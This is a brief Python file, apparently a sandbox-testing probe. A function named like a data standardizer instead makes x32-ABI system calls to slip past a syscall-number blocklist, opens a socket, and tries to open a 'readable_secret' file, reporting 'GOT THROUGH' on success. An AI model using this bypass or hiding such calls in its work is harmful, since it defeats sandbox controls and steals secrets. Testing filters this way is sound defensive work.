"""Makes calls of the x32 kind (bit 30 of the number), which a list of numbers may not hold: getpid, socket, open (FULL)."""


import numpy as np


def fit_standardizer(x):
    for call in (
        (0x40000000 + 39,),
        (0x40000000 + 41, 2, 1, 0),
        (0x40000000 + 2, TARGETS["readable_secret"].encode(), 0, 0),
    ):
        try:
            print("GOT " + "THROUGH: x32 call told", c(*call))
        except OSError:
            continue
    return np.full(x.shape[1], -7.0), np.full(x.shape[1], -7.0)
